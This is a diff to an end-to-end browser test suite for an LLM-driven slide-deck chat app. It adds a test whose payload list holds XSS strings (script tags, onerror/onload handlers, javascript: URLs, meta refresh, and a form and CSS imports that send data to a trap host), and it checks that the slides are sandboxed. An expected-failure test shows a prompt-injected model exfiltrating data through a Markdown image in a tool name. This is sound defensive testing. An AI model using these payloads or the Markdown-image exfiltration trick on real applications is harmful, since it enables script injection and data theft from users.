@@ -14,11 +14,12 @@ import shutil
 import threading
 from collections.abc import Callable, Iterator
 from pathlib import Path
+from urllib.parse import urlparse
 
 import pytest
-from playwright.sync_api import Browser, Frame, FrameLocator, Locator, Page, expect
+from playwright.sync_api import Browser, Dialog, Frame, FrameLocator, Locator, Page, expect
 
-from tests.e2e.chat_fixtures import UNUSABLE_MLFLOW, ChatApp, chat_app_fixture  # noqa: F401
+from tests.e2e.chat_fixtures import API_KEY, MODEL, UNUSABLE_MLFLOW, ChatApp, chat_app_fixture  # noqa: F401
 from tests.fakes.openai_server import RecordedRequest, Reply
 
 pytestmark = pytest.mark.e2e
@@ -121,6 +122,21 @@ REVIEW_SLIDES = [
     ),
 ]
 REVIEW_DECK_TITLE = "Workspace Consumption Review"
+
+
+# The app's favicon (page_icon=":material/slideshow:") comes from Google's CDN: a known bug,
+# exposed by test_the_app_loads_nothing_from_other_hosts and tolerated elsewhere.
+FAVICON_CDN = "https://fonts.gstatic.com/s/i/short-term/release/materialsymbolsrounded/"
+
+
+def other_hosts(urls: list[str], app_host: str) -> list[str]:
+    """The fetched URLs that went to a host other than the app's."""
+    return [
+        url
+        for url in urls
+        if urlparse(url).scheme not in ("data", "blob", "about")
+        and urlparse(url).netloc != app_host
+    ]
 
 
 # -- page helpers --------------------------------------------------------------------------------
@@ -226,13 +242,12 @@ def screenshot(page: Page, tmp_path: Path, name: str, *, height: int = 1000) -> 
 def click(page: Page, target: Locator) -> None:
     """Scroll the target into view, let the app's scrolling settle, then click it.
 
-    Streamlit's main area keeps re-scrolling while slide frames load and report their
-    height; a click aimed right after Playwright's own scroll can land on a slide instead.
+    With a chat input, Streamlit's main area sticks to the bottom: when content changes
+    (slide frames load and report their height) it scrolls back down, and a click aimed
+    right after Playwright's own scroll can land elsewhere.
     """
     target.scroll_into_view_if_needed()
-    for _ in range(8):
-        print("SCROLL", page.evaluate("() => [...document.querySelectorAll('*')].filter(e => e.scrollTop > 0).map(e => (e.getAttribute('data-testid')||e.tagName) + ':' + Math.round(e.scrollTop) + '/' + e.scrollHeight)"), target.bounding_box()["y"])
-        page.wait_for_timeout(100)
+    page.wait_for_timeout(400)
     target.scroll_into_view_if_needed()
     target.click()
 
@@ -399,9 +414,12 @@ def test_download_html_is_a_self_contained_deck(
     open_chat(page, f"{chat_app.url}/?session={review_session}")
     expect_titles(page, REVIEW_TITLES)
     with page.expect_download() as download_info:
-        page.get_by_role("button", name="Download HTML").click()
+        click(page, page.get_by_role("button", name="Download HTML"))
     download = download_info.value
-    assert download.suggested_filename == "Workspace-Consumption-Review.html"
+    # Named after the session's title (derived from the prompt), made safe for a file name.
+    assert re.fullmatch(
+        r"[A-Za-z0-9_-]+-Workspace-Consumption-Review\.html", download.suggested_filename
+    )
     path = tmp_path / download.suggested_filename
     download.save_as(path)
 
@@ -444,7 +462,7 @@ def test_present_shows_one_slide_at_a_time(
 ) -> None:
     open_chat(page, f"{chat_app.url}/?session={review_session}")
     expect_titles(page, REVIEW_TITLES)
-    page.locator(".st-key-present label").click()
+    click(page, page.locator(".st-key-present label"))
 
     show = page.frame_locator(f"{STREAMLIT_FRAME}[srcdoc*='Presentation of']").frame_locator(
         "iframe[sandbox='allow-scripts']"
@@ -465,3 +483,191 @@ def test_present_shows_one_slide_at_a_time(
     expect(counter).to_have_text("3 / 6")
     body.click(position={"x": size["width"] * 0.1, "y": size["height"] / 2})
     expect(counter).to_have_text("2 / 6")
+
+
+# -- 6. hostile slides in the browser ----------------------------------------------------------
+
+EVIL_CHART = {
+    "type": "bar",
+    # No apostrophe: the spec sits in a single-quoted attribute (the slide contract says so).
+    "title": "</text><script>top.document.title=`pwned`;alert(1)</script>",
+    "categories": ["<img src=x onerror=alert(1)>", "B"],
+    "series": [{"name": "<svg onload=alert(1)>", "values": [3, 5]}],
+}
+PAYLOADS = [
+    ("Script payload", "<script>window.top.document.title='pwned';alert('script')</script>"),
+    ("Image payload", "<img src=x onerror=\"parent.document.title='pwned';alert('img')\">"),
+    ("SVG payload", "<svg onload=\"top.document.title='pwned';alert('svg')\"><circle r=9/></svg>"),
+    ("Frame payload", "<iframe src=\"javascript:top.document.title='pwned'\"></iframe>"),
+    ("Link payload", "<a href=\"javascript:top.document.title='pwned'\">click me</a>"),
+    (
+        "Style payload",
+        f"<style>@import url({TRAP}/import.css); body{{background:url({TRAP}/leak)}}</style>",
+    ),
+    ("Refresh payload", f'<meta http-equiv="refresh" content="0;url={TRAP}/refresh">'),
+    (
+        "Form payload",
+        f'<form action="{TRAP}/steal" method="post"><input name="q" value="secret">'
+        "<button>Send</button></form>",
+    ),
+    (
+        "Overlay payload",
+        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
+        f'z-index:2147483647;background:url({TRAP}/fixed)">covered</div>',
+    ),
+    (
+        "Import payload",
+        f'<p style="@import url({TRAP}/inline.css); background-image:url({TRAP}/bg);'
+        f' color:#c00">styled</p><img src="{TRAP}/pixel.png" alt="pixel">',
+    ),
+    ("Chart payload", f"<figure class=\"chart\" data-chart='{json.dumps(EVIL_CHART)}'></figure>"),
+]
+
+
+def test_hostile_slides_cannot_script_navigate_or_fetch(
+    page: Page, chat_app: ChatApp, backend: str, tmp_path: Path
+) -> None:
+    app_host = urlparse(chat_app.url).netloc
+    dialogs: list[str] = []
+    fetched: list[str] = []
+
+    def on_dialog(dialog: Dialog) -> None:
+        dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    page.on("dialog", on_dialog)
+    page.on("request", lambda request: fetched.append(request.url))
+    open_chat(page, chat_app.url)
+    app_title = page.title()
+
+    titles = [title for title, _ in PAYLOADS]
+    slides = [
+        slide(title, f"<p>Visible text {number}</p>{payload}")
+        for number, (title, payload) in enumerate(PAYLOADS, 1)
+    ]
+    chat_app.llm.enqueue(Reply.text(deck_answer("Quarterly numbers", slides), chunk_size=300))
+    send(page, "Summarise the quarterly numbers")
+    wait_for_reply(page, f"Generated {len(slides)} slides")
+    expect_titles(page, titles)
+
+    for index in range(len(slides)):
+        frame = inner_frame(page, index)
+        assert f"Visible text {index + 1}" in frame.evaluate("document.body.innerText")
+        reach = frame.evaluate(
+            "() => { try { return 'reached ' + parent.document.title; }"
+            " catch (error) { return 'blocked ' + error.name; } }"
+        )
+        assert reach == "blocked SecurityError", f"slide {index + 1}: {reach}"
+        fixed = frame.evaluate(
+            "() => [...document.querySelectorAll('*')]"
+            ".filter(e => getComputedStyle(e).position === 'fixed').length"
+        )
+        assert fixed == 0, f"slide {index + 1} has a position:fixed element"
+    assert "Send" in slide_text(page, titles.index("Form payload"))  # the form's text stays
+    chart = slide_frame(page, titles.index("Chart payload")).locator("figure.chart svg")
+    expect(chart).to_be_visible()  # rendered, hostile labels as text
+    expect(chart).to_contain_text("<img src=x onerror=alert(1)>")
+    expect(page.get_by_text("could not be read")).to_have_count(0)
+
+    # The presentation frame runs scripts (only ours): walk through every slide in it.
+    click(page, page.locator(".st-key-present label"))
+    show = page.frame_locator(f"{STREAMLIT_FRAME}[srcdoc*='Presentation of']").frame_locator(
+        "iframe[sandbox='allow-scripts']"
+    )
+    expect(show.locator("#counter")).to_have_text(f"1 / {len(slides)}", timeout=TIMEOUT_MS)
+    show.locator("#counter").click()  # focus the presentation (a click left goes back: stays)
+    for number in range(2, len(slides) + 1):
+        page.keyboard.press("ArrowRight")
+        expect(show.locator("#counter")).to_have_text(f"{number} / {len(slides)}")
+        expect(show.locator(".deck > .frame:not([hidden])")).to_contain_text(
+            f"Visible text {number}"
+        )
+    page.wait_for_timeout(1000)  # give a meta refresh or a late fetch the chance to happen
+
+    screenshot(page, tmp_path, f"6-hostile-deck-{backend}", height=1800)
+    assert page.title() == app_title
+    assert page.evaluate("document.title") == app_title
+    assert dialogs == []
+    assert not [url for url in fetched if TRAP_HOST in url]
+    foreign = [url for url in other_hosts(fetched, app_host) if not url.startswith(FAVICON_CDN)]
+    assert foreign == [], foreign
+    expect(page.get_by_role("heading", name="Chat", exact=True)).to_be_visible()
+
+
+# -- 7. errors -----------------------------------------------------------------------------------
+
+
+def test_a_rejected_key_is_reported_and_the_chat_recovers(page: Page, chat_app: ChatApp) -> None:
+    before = len(chat_app.llm.chat_requests)
+    chat_app.llm.enqueue(Reply.error(401))
+    open_chat(page, chat_app.url)
+    send(page, "A deck that the model will refuse")
+
+    error = page.get_by_test_id("stChatMessage").get_by_test_id("stAlertContentError")
+    expect(error).to_contain_text("rejected the credentials (HTTP 401)", timeout=TIMEOUT_MS)
+    expect(error).to_contain_text("Check the API key")
+    expect(page.get_by_text("The last request failed")).to_be_visible()
+    text = main_text(page)
+    for leak in ("Traceback", 'File "', "AuthenticationError", API_KEY):
+        assert leak not in text
+    expect(chat_box(page)).to_be_enabled()
+
+    chat_app.llm.enqueue(Reply.text(deck_answer("Second try", REVIEW_SLIDES[:3])))
+    send(page, "Try again please")
+    wait_for_reply(page, "Generated 3 slides")
+    expect_titles(page, REVIEW_TITLES[:3])
+    assert len(chat_app.llm.chat_requests) == before + 2
+
+
+# -- bugs ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="BUG: ui/chat_view.py show_messages renders tool summaries with st.caption "
+    "(Markdown); a model-chosen tool name or error text like ![x](http://host/?data) "
+    "becomes an <img> in the app's own origin and the browser fetches it",
+)
+def test_model_text_in_the_chat_cannot_fetch_from_other_hosts(
+    page: Page, chat_app: ChatApp
+) -> None:
+    fetched: list[str] = []
+    page.on("request", lambda request: fetched.append(request.url))
+    # A prompt-injected model "calls a tool" whose name is a Markdown image carrying data.
+    chat_app.llm.enqueue(
+        Reply.tool_calls([(f"![chart]({TRAP}/exfil?total=412K)", {"query": "SELECT 1"})]),
+        Reply.text(deck_answer("Probe", REVIEW_SLIDES[:2])),
+    )
+    open_chat(page, chat_app.url)
+    send(page, "Consumption review for the steering group")
+    wait_for_reply(page, "Generated 2 slides")
+    expect(page.get_by_text("Data used (1 tool call)")).to_be_visible()
+    page.wait_for_timeout(1000)
+    assert [url for url in fetched if TRAP_HOST in url] == []
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="BUG: app.py sets page_icon=':material/slideshow:'; Streamlit's frontend loads "
+    "that favicon from fonts.gstatic.com on every page load (fails offline, leaks usage)",
+)
+def test_the_app_loads_nothing_from_other_hosts(page: Page, chat_app: ChatApp) -> None:
+    fetched: list[str] = []
+    page.on("request", lambda request: fetched.append(request.url))
+    open_chat(page, chat_app.url)
+    expect(page.get_by_text("Start a deck")).to_be_visible()
+    page.wait_for_timeout(1500)
+    assert other_hosts(fetched, urlparse(chat_app.url).netloc) == []
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="BUG: slidegen/services/profiles.py get_active_profile applies SLIDEGEN_LLM_PROVIDER "
+    "but not SLIDEGEN_LLM_MODEL, so the Chat page names the profile's endpoint, not the model "
+    "that really runs",
+)
+def test_the_chat_names_the_model_that_really_runs(page: Page, chat_app: ChatApp) -> None:
+    open_chat(page, chat_app.url)
+    line = page.get_by_role("main").get_by_text(re.compile(r"^Profile .* · LLM:"))
+    expect(line).to_contain_text("OpenAI-compatible server")
+    expect(line).to_contain_text(MODEL)
